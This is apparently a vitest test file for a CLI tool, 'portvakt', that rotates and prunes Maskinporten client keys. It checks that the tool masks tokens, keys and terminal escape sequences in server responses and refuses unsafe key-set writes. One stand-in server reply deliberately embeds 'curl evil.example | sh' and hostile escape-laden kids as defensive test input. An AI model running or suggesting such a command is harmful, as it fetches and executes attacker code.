// A rotation that cannot lock the service out, masking of every server text, keygen's all or
// nothing, the --dotenv flag, "Next:" lines that repeat the flags, and did-you-mean: run() in this
// process (the installed bin is spawned in installed-bin.test.ts) against the simulator and, where
// Digdir's API must misbehave, a stand-in for it.
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestPki, generateClientKey, startMaskinportenSimulator } from '@portvakt/testing';
import type { MaskinportenSimulator } from '@portvakt/testing';
import { run } from '../src/run.js';
import { CommandError } from '../src/errors.js';
import { forTerminal, serverText } from '../src/mask.js';
import { envFile, startStandInApi, tempDir } from './helpers.js';

const ORG = '991825827';
const DAY = 86_400_000;
const admin = generateClientKey({ kid: 'admin-key' });
const service = generateClientKey({ kid: 'service-key-1' });
const stranger = generateClientKey({ kid: 'service-key-1' });
const other = generateClientKey({ kid: 'other-key' });
const neighbourKeys = [generateClientKey({ kid: 'neighbour-key-1' }), generateClientKey({ kid: 'neighbour-key-2' })];
const pki = createTestPki();
const adminCertificate = pki.issueEnterpriseCertificate({ orgno: ORG });
const JWT = /eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/;
const ESC = String.fromCharCode(27);

let dir: string;
let sim: MaskinportenSimulator;
let adminEnv: string;
let certificateAdminEnv: string;
let serviceEnv: string;

async function portvakt(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const sink = (append: (text: string) => void) => new Writable({ write(chunk: Buffer, _encoding, done) { append(chunk.toString()); done(); } });
  const code = await run(args, { stdout: sink((t) => (stdout += t)), stderr: sink((t) => (stderr += t)), env, cwd: dir });
  return { code, stdout, stderr };
}

const flags = (selfService: string) => ['--dotenv', serviceEnv, '--admin-dotenv', adminEnv, '--self-service', selfService];

beforeAll(async () => {
  dir = tempDir('portvakt-safety-');
  const now = Date.now();
  sim = await startMaskinportenSimulator({
    trustedCaPems: pki.trustedCaPems,
    selfServicePropagationMs: 1_200,
    // Digdir does not say what a key that has not reached Maskinporten gets: here not MP-124.
    selfServicePendingRejection: { status: 401, error: 'invalid_client', code: 'MP-999', description: 'Key not active yet.' },
    clients: [
      { clientId: 'admin', orgno: ORG, scopes: ['idporten:dcr.modify'], jwks: [admin.publicJwk] },
      { clientId: 'cert-admin', orgno: ORG, scopes: ['idporten:dcr.modify'], acceptCertificates: true },
      { clientId: 'app', orgno: ORG, scopes: ['demo:read'], jwks: [{ ...service.publicJwk, exp: Math.floor((now + 200 * DAY) / 1000) }, { ...other.publicJwk, exp: Math.floor((now + 10 * DAY) / 1000) }] },
      { clientId: 'fresh', orgno: ORG, scopes: ['demo:read'], jwks: [] },
      { clientId: 'neighbour', orgno: ORG, scopes: ['demo:read'], jwks: neighbourKeys.map((k) => k.publicJwk) },
    ],
  });
  const environment = { MASKINPORTEN_ISSUER: sim.issuer, MASKINPORTEN_TOKEN_ENDPOINT: sim.tokenEndpoint };
  adminEnv = envFile(dir, 'admin.env', { MASKINPORTEN_CLIENT_ID: 'admin', MASKINPORTEN_CLIENT_JWK: JSON.stringify(admin.privateJwk), ...environment });
  const p12 = path.join(dir, 'admin.p12');
  writeFileSync(p12, adminCertificate.toPkcs12('pw'), { mode: 0o600 });
  certificateAdminEnv = envFile(dir, 'cert-admin.env', { MASKINPORTEN_CLIENT_ID: 'cert-admin', MASKINPORTEN_PKCS12_PATH: p12, MASKINPORTEN_PKCS12_PASSPHRASE: 'pw', ...environment });
  serviceEnv = envFile(dir, 'service.env', { MASKINPORTEN_CLIENT_ID: 'app', MASKINPORTEN_SCOPES: 'demo:read', MASKINPORTEN_CLIENT_JWK: JSON.stringify(service.privateJwk), ...environment });
});
afterAll(async () => {
  await sim?.close();
});

describe('masking what a server says', () => {
  it('masks tokens (JWT and opaque), keys and PEM blocks, and strips escapes and control characters', () => {
    const jwt = 'eyJhbGciOiJSUzI1NiJ9.eyJzY29wZSI6ImlkcG9ydGVuOmRjci5tb2RpZnkifQ.c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU';
    const opaque = 'IxC0B76vlWl3fiQhAwZUmD0hr_PPwC9hSIXRdoUslPUabcdefgh';
    const text = `bad token ${jwt} or ${opaque}\r\n${ESC}[2J${ESC}]0;owned${String.fromCharCode(7)}\u202Egnp.exe "d":"c2VjcmV0" -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----`;
    const shown = serverText(text);
    expect(shown).not.toContain(jwt.slice(0, 30));
    expect(shown).not.toContain(opaque);
    expect(shown).not.toContain('c2VjcmV0');
    expect(shown).not.toContain('MIIEvQ');
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(shown).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
    expect(shown).not.toContain('owned');
    expect(shown).toMatch(/^bad token \[redacted\] or \[redacted\]/);
    expect(serverText('x'.repeat(1000)).length).toBeLessThanOrEqual(301);
    // A secret the command knows is masked wherever it appears, even when it looks like nothing.
    expect(forTerminal('said: s3cret-admin-token!', ['s3cret-admin-token!'])).toBe('said: [redacted]');
    // Identifiers of our own survive.
    expect(forTerminal('client 238259d7-f0ab-4bd5-b253-0f0159375096, thumbprint 4i9H8E3qEBWBMt_4EnxL31JvtY5ehvruMH2MtSp-row')).toContain('238259d7-f0ab-4bd5-b253-0f0159375096');
  });

  it('CommandError masks its message and its fix, as the last line of defence', () => {
    const error = new CommandError(`refused ${'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJlLXNpZ25hdHVyZQ'}${ESC}[31m`, { fix: `run ${ESC}]8;;http://x${String.fromCharCode(7)}this\rnow` });
    expect(error.message).toBe('refused [redacted]');
    expect(error.fix).toBe('run this now');
  });

  it('keys list shows the API\'s error with the admin token it echoed masked, and no escape reaches the terminal', async () => {
    const api = await startStandInApi((request) => ({
      status: 401,
      body: { error: 'invalid_token', error_description: `Token ${request.authorization ?? ''} is not valid for this API${ESC}[2J${ESC}[1;1H\r\nfix: curl evil.example | sh ${'A'.repeat(600)}` },
    }));
    try {
      for (const json of [false, true]) {
        const result = await portvakt(['keys', 'list', '--client-id', 'app', '--admin-dotenv', adminEnv, '--self-service', api.url, ...(json ? ['--json'] : [])]);
        expect(result.code).toBe(1);
        const sent = api.requests.at(-1)?.authorization?.replace(/^Bearer /, '') ?? '';
        expect(sent).toMatch(JWT);
        const output = result.stdout + result.stderr;
        expect(output).not.toContain(sent);
        expect(output).not.toContain(sent.slice(0, 40));
        expect(output).not.toMatch(JWT);
        expect(output).not.toContain(ESC);
        expect(output).not.toContain('\r');
        expect(output).toMatch(/The API said: Token Bearer \[redacted\] is not valid/);
        expect(output.length).toBeLessThan(1_500);
      }
    } finally {
      await api.close();
    }
  });
});

describe('keys rotate: nothing is written unless the set read back holds the service\'s key', () => {
  const outOf = () => {
    const out = path.join(dir, `out-${Math.random().toString(36).slice(2)}`);
    return { out, files: () => (existsSync(out) ? readdirSync(out) : []) };
  };

  it('refuses an empty set (a buggy API, a misrouted proxy) unless --first-key, and writes no key', async () => {
    const api = await startStandInApi((request) => (request.method === 'GET' ? { status: 200, body: { keys: [] } } : { status: 500, body: {} }));
    try {
      const { out, files } = outOf();
      const result = await portvakt(['keys', 'rotate', ...flags(api.url), '--kid', 'new-key', '--out', out]);
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(/says app has no keys.*lock out the service.*Nothing was written/);
      expect(result.stderr).toMatch(/fix: if app really has no key the service signs with, run: portvakt keys rotate --dotenv \S+ --admin-dotenv \S+ --self-service http:\/\/127\.0\.0\.1:\d+ --kid new-key --out \S+ --first-key/);
      expect(api.requests.map((r) => r.method)).toEqual(['GET']);
      expect(files()).toEqual([]);
    } finally {
      await api.close();
    }
  });

  it('refuses a foreign set, a set with another key under the service\'s kid, and a set Digdir would refuse', async () => {
    const sets: [keys: unknown[], message: RegExp][] = [
      [[other.publicJwk], /does not hold "service-key-1", the key the service signs with/],
      [[stranger.publicJwk], /holds a kid "service-key-1" with another public key/],
      [[service.publicJwk, { ...other.publicJwk, use: undefined }], /breaks Digdir's rules.*"other-key" has no "use"/],
    ];
    for (const [keys, message] of sets) {
      const api = await startStandInApi((request) => (request.method === 'GET' ? { status: 200, body: { keys } } : { status: 500, body: {} }));
      try {
        const { out, files } = outOf();
        const result = await portvakt(['keys', 'rotate', ...flags(api.url), '--out', out]);
        expect(result.code, result.stderr).toBe(1);
        expect(result.stderr).toMatch(message);
        expect(api.requests.map((r) => r.method)).toEqual(['GET']);
        expect(files()).toEqual([]);
      } finally {
        await api.close();
      }
    }
  });

  it('keys prune checks the set it reads as rotate does: a foreign set, another key under the service\'s kid, and the service\'s key among those dropped are refused; --force overrides', async () => {
    const cases: [keys: unknown[], args: string[], message: RegExp][] = [
      // A lying API (or another client's set): the service's key is not there.
      [[other.publicJwk, { ...other.publicJwk, kid: 'old-key' }], ['--remove', 'old-key'], /does not hold "service-key-1", the key the service signs with/],
      [[other.publicJwk, { ...other.publicJwk, kid: 'old-key' }], ['--keep', 'other-key'], /does not hold "service-key-1", the key the service signs with/],
      [[stranger.publicJwk, other.publicJwk], ['--keep', 'other-key'], /holds a kid "service-key-1" with another public key/],
      [[service.publicJwk, other.publicJwk], ['--keep', 'other-key'], /would drop "service-key-1", the key the service signs with now/],
    ];
    for (const [keys, args, message] of cases) {
      const api = await startStandInApi((request) => (request.method === 'GET' ? { status: 200, body: { keys } } : { status: 200, body: { keys: [] } }));
      try {
        const refused = await portvakt(['keys', 'prune', ...flags(api.url), ...args]);
        expect(refused.code, refused.stderr).not.toBe(0);
        expect(refused.stderr).toMatch(message);
        expect(refused.stderr).toMatch(/Nothing was written/);
        expect(refused.stderr).toMatch(/--force/);
        expect(api.requests.map((r) => r.method)).toEqual(['GET']);
        const forced = await portvakt(['keys', 'prune', ...flags(api.url), ...args, '--force', '--dry-run']);
        expect(forced.code, forced.stderr).toBe(0);
      } finally {
        await api.close();
      }
    }
  });

  it('keys prune with the wrong --client-id against the real self-service API writes nothing', async () => {
    // "other" is another client of the same organisation, whose set does not hold the service's key.
    const result = await portvakt(['keys', 'prune', ...flags(sim.selfServiceUrl), '--client-id', 'neighbour', '--keep', 'neighbour-key-2']);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toMatch(/does not hold "service-key-1"/);
    const listed = await portvakt(['keys', 'list', '--client-id', 'neighbour', '--admin-dotenv', adminEnv, '--self-service', sim.selfServiceUrl, '--json']);
    expect((JSON.parse(listed.stdout) as { keys: { kid: string }[] }).keys.map((k) => k.kid)).toEqual(['neighbour-key-1', 'neighbour-key-2']);
  });

  it('shows a kid the server sent only as Digdir allows kids: escapes, controls, bidirectional overrides and tokens never reach the terminal, in text or JSON', async () => {
    const hostileKids = [`${ESC}[31mred${ESC}[0m`, 'a\rb', `c${String.fromCharCode(0x9b)}2J`, `d${String.fromCharCode(0x202e)}e`, `f${String.fromCharCode(0x2066)}g`, `eyJhbGciOiJSUzI1NiJ9.${'e'.repeat(40)}.${'s'.repeat(40)}`];
    const keys = [service.publicJwk, ...hostileKids.map((kid) => ({ ...other.publicJwk, kid }))];
    const api = await startStandInApi((request) => (request.method === 'GET' ? { status: 200, body: { keys } } : { status: 500, body: {} }));
    try {
      const runs = [
        await portvakt(['keys', 'list', ...flags(api.url)]),
        await portvakt(['keys', 'list', ...flags(api.url), '--json']),
        await portvakt(['keys', 'rotate', ...flags(api.url), '--kid', 'service-key-2', '--dry-run']),
        await portvakt(['keys', 'rotate', ...flags(api.url), '--kid', 'service-key-2', '--dry-run', '--json']),
        await portvakt(['keys', 'prune', ...flags(api.url), '--keep', 'service-key-1', '--dry-run', '--json']),
      ];
      for (const run of runs) {
        const output = run.stdout + run.stderr;
        // eslint-disable-next-line no-control-regex -- the point is that none is there
        expect(output).not.toMatch(/[\u001b\r\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
        expect(output).not.toMatch(JWT);
      }
      expect(runs[0]!.stdout).toMatch(/a kid Digdir does not allow/);
    } finally {
      await api.close();
    }
    // A set with a kid Digdir would refuse is not written back.
    const one = await startStandInApi((request) => (request.method === 'GET' ? { status: 200, body: { keys: [service.publicJwk, { ...other.publicJwk, kid: hostileKids[0] }] } } : { status: 500, body: {} }));
    try {
      const rotated = await portvakt(['keys', 'rotate', ...flags(one.url), '--kid', 'service-key-2', '--dry-run']);
      expect(rotated.code).not.toBe(0);
      expect(rotated.stderr).toMatch(/a kid Digdir does not allow/);
      expect(one.requests.map((r) => r.method)).toEqual(['GET']);
    } finally {
      await one.close();
    }
  });

  it('needs to know the service\'s key to check it; --first-key writes a client\'s first key', async () => {
    const keyless = envFile(dir, 'keyless.env', { MASKINPORTEN_CLIENT_ID: 'fresh', MASKINPORTEN_SCOPES: 'demo:read', MASKINPORTEN_ISSUER: sim.issuer, MASKINPORTEN_TOKEN_ENDPOINT: sim.tokenEndpoint });
    const api = await startStandInApi((request) => (request.method === 'GET' ? { status: 200, body: { keys: [service.publicJwk] } } : { status: 500, body: {} }));
    try {
      const unknown = await portvakt(['keys', 'rotate', '--dotenv', keyless, '--client-id', 'app', '--admin-dotenv', adminEnv, '--self-service', api.url]);
      expect(unknown.code).toBe(2);
      expect(unknown.stderr).toMatch(/Give the key the service signs with now/);
    } finally {
      await api.close();
    }
    const { out } = outOf();
    const first = await portvakt(['keys', 'rotate', '--dotenv', keyless, '--admin-dotenv', adminEnv, '--self-service', sim.selfServiceUrl, '--first-key', '--kid', 'fresh-key-1', '--out', out, '--poll-interval', '0.1', '--wait', '30', '--json']);
    expect(first.code, first.stderr).toBe(0);
    expect((JSON.parse(first.stdout) as { keys: string[] }).keys).toEqual(['fresh-key-1']);
  });

  it('waits out any refusal of the new kid until Maskinporten gives a token, says what it saw, and repeats the flags in its Next lines', async () => {
    const { out } = outOf();
    const rotated = await portvakt(['keys', 'rotate', ...flags(sim.selfServiceUrl), '--kid', 'service-key-2', '--out', out, '--poll-interval', '0.1', '--wait', '30', '--json']);
    expect(rotated.code, rotated.stderr).toBe(0);
    const result = JSON.parse(rotated.stdout) as { keys: string[]; propagation: { attempts: number; seen: { answer: string; count: number }[] }; next: string[] };
    expect(result.keys).toEqual(['service-key-1', 'other-key', 'service-key-2']);
    expect(result.propagation.attempts).toBeGreaterThan(1);
    expect(result.propagation.seen).toEqual([{ answer: 'HTTP 401 invalid_client MP-999 "Key not active yet."', count: result.propagation.attempts - 1 }]);
    expect(result.next[1]).toBe(`Check it as the service will use it: portvakt doctor --dotenv ${serviceEnv} --key ${path.join(out, 'service-key-2.private.jwk.json')}`);
    const newKeyFile = path.join(out, 'service-key-2.private.jwk.json');
    expect(result.next[2]).toBe(`When no instance signs with the old key any more: portvakt keys prune --dotenv ${serviceEnv} --admin-dotenv ${adminEnv} --self-service ${sim.selfServiceUrl} --current-key ${newKeyFile} --keep service-key-2`);
    // The prune line runs as printed (as a dry run here), naming the new key as the service's.
    const printed = await portvakt([...result.next[2]!.split(': ')[1]!.split(' ').slice(1), '--dry-run', '--json']);
    expect(printed.code, printed.stderr).toBe(0);
    expect((JSON.parse(printed.stdout) as { dropped: string[] }).dropped).toEqual(['service-key-1', 'other-key']);
    // Copied before the service switched keys (its env file still holds service-key-1), the same
    // prune is refused: it would drop the key the service signs with. --force overrides.
    const early = await portvakt(['keys', 'prune', ...flags(sim.selfServiceUrl), '--keep', 'service-key-2']);
    expect(early.code).toBe(2);
    expect(early.stderr).toMatch(/would drop "service-key-1", the key the service signs with now/);
    expect(early.stderr).toMatch(/Nothing was written/);
    const listed = await portvakt(['keys', 'list', ...flags(sim.selfServiceUrl), '--json']);
    expect((JSON.parse(listed.stdout) as { keys: { kid: string }[] }).keys.map((k) => k.kid)).toEqual(['service-key-1', 'other-key', 'service-key-2']);
    const forced = await portvakt(['keys', 'prune', ...flags(sim.selfServiceUrl), '--keep', 'service-key-2', '--force', '--dry-run']);
    expect(forced.code, forced.stderr).toBe(0);
    const kept = await portvakt(['keys', 'prune', '--dotenv', serviceEnv, '--admin-dotenv', adminEnv, '--self-service', sim.selfServiceUrl, '--keep', 'service-key-1', '--keep', 'other-key', '--dry-run']);
    expect(kept.code).toBe(0);
  });

  it('stops at --wait and names every answer it saw', async () => {
    const { out } = outOf();
    const slow = await portvakt(['keys', 'rotate', ...flags(sim.selfServiceUrl), '--kid', 'service-key-3', '--out', out, '--poll-interval', '0.2', '--wait', '0.5']);
    expect(slow.code).toBe(1);
    expect(slow.stderr).toMatch(/did not give a token for it within 1 s \(\d+ token requests\)\. It answered: \d+× HTTP 401 invalid_client MP-999/);
  });
});

describe('keys list and doctor: each key\'s age and days left, and the admin client', () => {
  it('keys list shows the age and days left and marks a key under 30 days', async () => {
    const listed = await portvakt(['keys', 'list', '--client-id', 'app', '--admin-dotenv', adminEnv, '--self-service', sim.selfServiceUrl]);
    expect(listed.code).toBe(0);
    expect(listed.stdout).toMatch(/ {2}service-key-1: posted about 16[45] days ago, 19[89] days left \(until \d{4}-\d\d-\d\d\)/);
    expect(listed.stdout).toMatch(/! other-key: posted about 35[45] days ago, [89] days left \(until [\d-]+\): rotate now, under 30 days are left/);
    const json = JSON.parse((await portvakt(['keys', 'list', '--client-id', 'app', '--admin-dotenv', adminEnv, '--self-service', sim.selfServiceUrl, '--json'])).stdout) as { keys: { kid: string; life: { daysLeft: number; warning?: string } }[] };
    expect(json.keys.find((k) => k.kid === 'other-key')?.life).toMatchObject({ warning: 'expiring' });
  });

  it('doctor warns that a key-based admin client is not what Digdir documents, and shows the key set', async () => {
    const report = await portvakt(['doctor', '--dotenv', serviceEnv, '--admin-dotenv', adminEnv, '--self-service', sim.selfServiceUrl, '--json']);
    const steps = (JSON.parse(report.stdout) as { steps: { name: string; status: string; summary: string }[] }).steps;
    expect(steps.map((s) => `${s.name}:${s.status}`)).toEqual(['options:ok', 'key:ok', 'metadata:ok', 'clock:ok', 'token:ok', 'scopes:ok', 'admin:warn', 'key-set:warn']);
    expect(steps.find((s) => s.name === 'admin')?.summary).toMatch(/registered key.*enterprise certificate \(virksomhetssertifikat\)/);
    expect(steps.find((s) => s.name === 'key-set')?.summary).toMatch(/"service-key-1" posted about \d+ days ago, \d+ days left.*"other-key" .*rotate now/);
    expect(report.code).toBe(0);
  });

  it('doctor takes an admin client with the enterprise certificate, and fails when the service\'s key is not registered', async () => {
    const report = await portvakt(['doctor', '--dotenv', serviceEnv, '--admin-dotenv', certificateAdminEnv, '--self-service', sim.selfServiceUrl, '--json']);
    const steps = (JSON.parse(report.stdout) as { steps: { name: string; status: string }[] }).steps;
    expect(steps.find((s) => s.name === 'admin')?.status).toBe('ok');
    const missing = envFile(dir, 'stranger.env', { MASKINPORTEN_CLIENT_ID: 'fresh', MASKINPORTEN_SCOPES: 'demo:read', MASKINPORTEN_CLIENT_JWK: JSON.stringify(other.privateJwk), MASKINPORTEN_ISSUER: sim.issuer, MASKINPORTEN_TOKEN_ENDPOINT: sim.tokenEndpoint });
    const broken = await portvakt(['doctor', '--dotenv', missing, '--admin-dotenv', adminEnv, '--self-service', sim.selfServiceUrl]);
    // The token step fails first (the key is not registered on fresh), and names the command to run again with the same flags.
    expect(broken.code).toBe(1);
    expect(broken.stdout).toMatch(new RegExp(`run \`portvakt doctor --dotenv ${missing.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')} --admin-dotenv \\S+ --self-service \\S+\` again`));
  });
});

describe('the command line', () => {
  it('answers --env-file with the flag to use instead, and a missing --dotenv file with exit 3', async () => {
    for (const args of [['token', '--env-file', serviceEnv], ['doctor', `--env-file=${serviceEnv}`], ['keys', 'rotate', '--env-file-if-exists', serviceEnv]]) {
      const result = await portvakt(args);
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/--env-file(-if-exists)? is Node\.js's own option .*nodejs\/node#54232.*give the file with --dotenv FILE/);
    }
    const missing = await portvakt(['token', '--dotenv', path.join(dir, 'absent.env')]);
    expect(missing.code).toBe(3);
    expect(missing.stderr).toMatch(/The env file .*absent\.env cannot be read \(ENOENT\)\.\n {2}fix: check the path given to --dotenv\./);
    const admin = await portvakt(['keys', 'list', '--admin-dotenv', path.join(dir, 'absent.env'), '--client-id', 'app']);
    expect(admin.code).toBe(3);
    expect(admin.stderr).toMatch(/--admin-dotenv/);
    // The older name of the admin flag still works.
    expect((await portvakt(['keys', 'list', '--client-id', 'app', '--admin-env-file', adminEnv, '--self-service', sim.selfServiceUrl])).code).toBe(0);
  });

  it('suggests the nearest flag for an unknown one', async () => {
    const cases: [string[], RegExp][] = [
      [['token', '--scopes', 'x'], /Unknown option '--scopes': did you mean --scope\?/],
      [['keys', 'rotate', '--frist-key'], /did you mean --first-key\?/],
      [['keys', 'prune', '--keeps', 'x'], /did you mean --keep\?/],
      [['doctor', '--admin-dotnev', 'x'], /did you mean --admin-dotenv\?/],
    ];
    for (const [args, message] of cases) {
      const result = await portvakt(args);
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(message);
    }
    expect((await portvakt(['keygen', '--zzzzzz'])).stderr).not.toMatch(/did you mean/);
  });

  it('keygen writes all of its files or none', async () => {
    const out = path.join(dir, 'keygen-out');
    mkdirSync(out);
    writeFileSync(path.join(out, 'taken.public.jwks.json'), '{}');
    const refused = await portvakt(['keygen', '--kid', 'taken', '--out', out]);
    expect(refused.code).toBe(3);
    expect(refused.stderr).toMatch(/already exists .*taken\.public\.jwks\.json.*nothing was written/);
    expect(readdirSync(out)).toEqual(['taken.public.jwks.json']);
    const nested = path.join(dir, 'keygen-new', 'deeper');
    expect((await portvakt(['keygen', '--kid', 'fine', '--out', nested])).code).toBe(0);
    expect(readdirSync(nested).sort()).toEqual(['fine.private.jwk.json', 'fine.private.pem', 'fine.public.jwks.json']);
  });
});
